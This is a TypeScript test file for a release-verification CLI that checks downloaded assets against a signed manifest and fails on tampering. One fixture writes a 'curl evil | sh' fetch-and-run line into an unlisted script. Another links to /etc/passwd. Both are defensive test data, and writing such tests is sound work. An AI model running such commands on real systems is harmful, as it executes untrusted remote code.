/**
 * `relsign verify-release DIR`: a folder of downloaded assets with a signed
 * manifest verifies; each tampering fails with one line naming the asset.
 */
import { copyFile, readFile, rename, rm, unlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Signer } from '../../src/sigstore/signer.js';
import { collectFromDir } from '../../src/verify-release/source.js';
import { verifyRelease, type ReleaseReport } from '../../src/verify-release/verify.js';
import { loadPublicKey } from '../../src/sigstore/keys.js';
import { hasStackTrace, runCli } from '../helpers/cli.js';
import { ARCHIVES, CHECKSUMS, MANIFEST, keyBundle, manifestFor, keySigner, signedRelease, tempDir } from './fixture.js';

let signer: Signer;
let other: Signer;
beforeAll(() => {
  signer = Signer.generate();
  other = Signer.generate();
});

const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const c of cleanups.splice(0)) await c();
});

async function release(init: Parameters<typeof signedRelease>[1] = {}) {
  const r = await signedRelease(signer, init);
  cleanups.push(r.cleanup);
  return r;
}

async function verifyDir(dir: string, pub: string, extra: Partial<Parameters<typeof verifyRelease>[1]> = {}): Promise<ReleaseReport> {
  const key = await loadPublicKey(pub);
  const collected = await collectFromDir(dir);
  try {
    return await verifyRelease(collected, { key, ignoreTlog: true, ...extra });
  } finally {
    await collected.cleanup();
  }
}

const FAILED = /^FAILED /m;
const failedLines = (stdout: string) => stdout.split('\n').filter((l) => l.startsWith('FAILED '));

describe('verify-release DIR (key)', () => {
  it('passes a signed release: a row per asset, every one vouched for, exit 0', async () => {
    const { dir, pub } = await release();
    const r = await runCli(['verify-release', '--key', pub, '--insecure-ignore-tlog', dir]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(FAILED);
    expect(r.stdout).toMatch(/^verdict: OK: 10 assets verified against the manifest hello_1\.2\.0_manifest\.json signed by key SHA256:[0-9a-f]{16}$/m);
    for (const name of [...ARCHIVES, CHECKSUMS, MANIFEST]) expect(r.stdout).toMatch(new RegExp(`^${name.replaceAll('.', '\\.')}\\s+[0-9a-f]{12}\\s+ok\\s`, 'm'));
    // An archive: the manifest, its .sig and the signed checksums all vouch for it.
    expect(r.stdout).toMatch(new RegExp(`^${ARCHIVES[0]!.replaceAll('.', '\\.')}\\s+\\S+\\s+ok\\s+manifest, ${ARCHIVES[0]!.replaceAll('.', '\\.')}\\.sig, checksums\\s+key SHA256:`, 'm'));

    const json = await runCli(['verify-release', '--key', pub, '--insecure-ignore-tlog', '--json', dir]);
    expect(json.code).toBe(0);
    const doc = JSON.parse(json.stdout);
    expect(doc).toMatchObject({ verdict: 'ok', ok: true, manifest: { name: MANIFEST, verified: true, tag: 'v1.2.0' }, checksums: [CHECKSUMS], problems: [] });
    expect(doc.assets).toHaveLength(10);
  });

  it('a tampered asset fails, naming it', async () => {
    const { dir, pub } = await release();
    await writeFile(join(dir, ARCHIVES[1]!), 'evil');
    const r = await runCli(['verify-release', '--key', pub, '--insecure-ignore-tlog', dir]);
    expect(r.code).toBe(1);
    const lines = failedLines(r.stdout);
    expect(lines.length).toBeGreaterThan(0);
    for (const l of lines) expect(l.startsWith(`FAILED ${ARCHIVES[1]}: `)).toBe(true);
    expect(lines.some((l) => /does not match the manifest's/.test(l))).toBe(true);
    expect(lines.some((l) => /\.sig: invalid signature/.test(l))).toBe(true);
    expect(lines.some((l) => /does not match hello_1\.2\.0_checksums\.txt's/.test(l))).toBe(true);
    expect(r.stdout).toMatch(/^verdict: FAILED: 3 problems in /m);
    expect(hasStackTrace(r.stdout + r.stderr)).toBe(false);
  });

  it('a swapped .sig fails, naming the asset it should sign', async () => {
    const { dir } = await release();
    const [a, b] = [join(dir, `${ARCHIVES[0]}.sig`), join(dir, `${ARCHIVES[1]}.sig`)];
    await rename(a, `${a}.tmp`);
    await rename(b, a);
    await rename(`${a}.tmp`, b);
    const report = await verifyDir(dir, join(dir, '..', 'cosign.pub'));
    expect(report.ok).toBe(false);
    const subjects = new Set(report.problems.map((p) => p.subject));
    expect(subjects).toEqual(new Set([ARCHIVES[0], ARCHIVES[1], `${ARCHIVES[0]}.sig`, `${ARCHIVES[1]}.sig`]));
    expect(report.problems.find((p) => p.subject === ARCHIVES[0])!.reason).toMatch(/^hello_1\.2\.0_linux_amd64\.tar\.gz\.sig: invalid signature/);
    expect(report.problems.find((p) => p.subject === `${ARCHIVES[0]}.sig`)!.reason).toMatch(/does not match the manifest's/);
  });

  it('a removed asset fails: listed in the manifest but missing', async () => {
    const { dir, pub } = await release();
    await unlink(join(dir, ARCHIVES[2]!));
    const r = await runCli(['verify-release', '--key', pub, '--insecure-ignore-tlog', dir]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`FAILED ${ARCHIVES[2]}: is listed in the manifest ${MANIFEST} but missing from the release`);
    expect(r.stdout).toContain(`FAILED ${ARCHIVES[2]}: is listed in ${CHECKSUMS} but missing from the release`);
  });

  it('an extra unlisted asset fails', async () => {
    const { dir, pub } = await release();
    await writeFile(join(dir, 'extra.sh'), 'curl evil | sh\n');
    const r = await runCli(['verify-release', '--key', pub, '--insecure-ignore-tlog', dir]);
    expect(r.code).toBe(1);
    expect(failedLines(r.stdout)).toEqual([`FAILED extra.sh: is not listed in the manifest ${MANIFEST}`]);
  });

  it('a manifest signed by another key fails, naming the manifest', async () => {
    const { dir, pub } = await release();
    const bytes = await readFile(join(dir, MANIFEST));
    await writeFile(join(dir, `${MANIFEST}.sigstore.json`), await keyBundle(other, bytes));
    const r = await runCli(['verify-release', '--key', pub, '--insecure-ignore-tlog', dir]);
    expect(r.code).toBe(1);
    expect(failedLines(r.stdout)).toEqual([
      `FAILED ${MANIFEST}: ${MANIFEST}.sigstore.json: the manifest's signature does not verify with cosign.pub (signed by another key?)`,
    ]);
    // Nothing is vouched for by an unverified manifest.
    expect(r.stdout).toMatch(new RegExp(`^${ARCHIVES[0]!.replaceAll('.', '\\.')}\\s+\\S+\\s+ok\\s+${ARCHIVES[0]!.replaceAll('.', '\\.')}\\.sig, checksums`, 'm'));
  });

  it('a manifest whose bytes differ from the signed payload fails', async () => {
    const { dir, pub } = await release();
    const text = (await readFile(join(dir, MANIFEST), 'utf8')).replace('"tag": "v1.2.0"', '"tag": "v1.2.1"');
    await writeFile(join(dir, MANIFEST), text);
    const report = await verifyDir(dir, pub);
    expect(report.problems.map((p) => `${p.subject}: ${p.reason}`)).toEqual([
      `${MANIFEST}: ${MANIFEST}.sigstore.json: the bundle signs other bytes than ${MANIFEST} (the manifest was modified, or the bundle is another release's)`,
    ]);
  });

  it("a manifest naming another key than the one that signed it fails (predicate.signer)", async () => {
    const { dir, pub } = await release({ signer: keySigner(other) });
    const report = await verifyDir(dir, pub);
    expect(report.problems).toHaveLength(1);
    expect(report.problems[0]!.reason).toMatch(/^predicate\.signer\.publicKeySha256 is [0-9a-f]{64}, but the key given is [0-9a-f]{64}$/);
  });

  it('the manifest bundle is missing', async () => {
    const { dir, pub } = await release();
    await unlink(join(dir, `${MANIFEST}.sigstore.json`));
    const report = await verifyDir(dir, pub);
    expect(report.problems.map((p) => `${p.subject}: ${p.reason}`)).toEqual([`${MANIFEST}: its signature bundle ${MANIFEST}.sigstore.json is not in the release`]);
  });

  it('the log entry is required unless --insecure-ignore-tlog', async () => {
    const { dir, pub } = await release();
    const r = await runCli(['verify-release', '--key', pub, '--trusted-root', '../shared/vectors/sigstore-conformance/public-good-trusted_root.json', dir]);
    expect(r.code).toBe(1);
    expect(failedLines(r.stdout)).toEqual([
      `FAILED ${MANIFEST}: ${MANIFEST}.sigstore.json: the bundle has no transparency-log entry; pass --insecure-ignore-tlog to check the signature against the key only`,
    ]);
  });

  it('a symbolic link in the folder is not followed', async () => {
    const { dir, pub } = await release();
    const { symlink } = await import('node:fs/promises');
    await symlink('/etc/passwd', join(dir, 'passwd'));
    const report = await verifyDir(dir, pub);
    expect(report.problems).toEqual([{ subject: 'passwd', reason: 'is a symbolic link; only regular files in the folder are read' }]);
  });

  it('usage errors are one line, exit 2', async () => {
    const { dir, pub } = await release();
    const both = await runCli(['verify-release', '--key', pub, '--certificate-identity', 'x', '--certificate-oidc-issuer', 'y', dir]);
    expect(both.code).toBe(2);
    expect(both.stderr.trim().split('\n')).toHaveLength(1);
    const none = await runCli(['verify-release', dir]);
    expect(none.code).toBe(2);
    expect(none.stderr).toMatch(/^relsign: verify-release: give --key/);
    const what = await runCli(['verify-release', '--key', pub, join(dir, 'nope')]);
    expect(what.code).toBe(2);
    expect(what.stderr).toMatch(/is neither a folder nor OWNER\/REPO@TAG/);
  });
});

describe('verify-release DIR: manifest without checksums signature or .sig files', () => {
  it('the manifest alone vouches for every asset', async () => {
    const root = await tempDir();
    cleanups.push(() => rm(root, { recursive: true, force: true }));
    for (const name of ARCHIVES) await writeFile(join(root, name), name);
    const bytes = await manifestFor(root, { signer: keySigner(signer) });
    await writeFile(join(root, MANIFEST), bytes);
    await writeFile(join(root, `${MANIFEST}.sigstore.json`), await keyBundle(signer, bytes));
    await writeFile(join(root, '..', `${root.split('/').pop()}.pub`), signer.publicKeyPem);
    const pub = join(root, '..', `${root.split('/').pop()}.pub`);
    cleanups.push(() => rm(pub, { force: true }));
    const report = await verifyDir(root, pub);
    expect(report.ok).toBe(true);
    expect(report.assets.filter((a) => ARCHIVES.includes(a.name)).map((a) => a.verifiedBy)).toEqual([['manifest'], ['manifest'], ['manifest']]);
    void copyFile;
  });
});

describe('verify-release --manifest NAME', () => {
  it('finds a manifest under another name only when told', async () => {
    const { dir, pub } = await release();
    await rename(join(dir, MANIFEST), join(dir, 'release-manifest.json'));
    await rename(join(dir, `${MANIFEST}.sigstore.json`), join(dir, 'release-manifest.json.sigstore.json'));
    const named = await runCli(['verify-release', '--key', pub, '--insecure-ignore-tlog', '--manifest', 'release-manifest.json', dir]);
    expect(named.code, named.stdout).toBe(0);
    expect(named.stdout).toContain('verdict: OK: 10 assets verified against the manifest release-manifest.json');
    const unnamed = await runCli(['verify-release', '--key', pub, '--insecure-ignore-tlog', dir]);
    expect(unnamed.code).toBe(1);
    expect(unnamed.stdout).toMatch(/^verify-release .*: 10 assets, no manifest/);
    const missing = await runCli(['verify-release', '--key', pub, '--insecure-ignore-tlog', '--manifest', 'nope.json', dir]);
    expect(failedLines(missing.stdout)[0]).toBe('FAILED nope.json: the manifest (--manifest) is not in the release');
  });
});

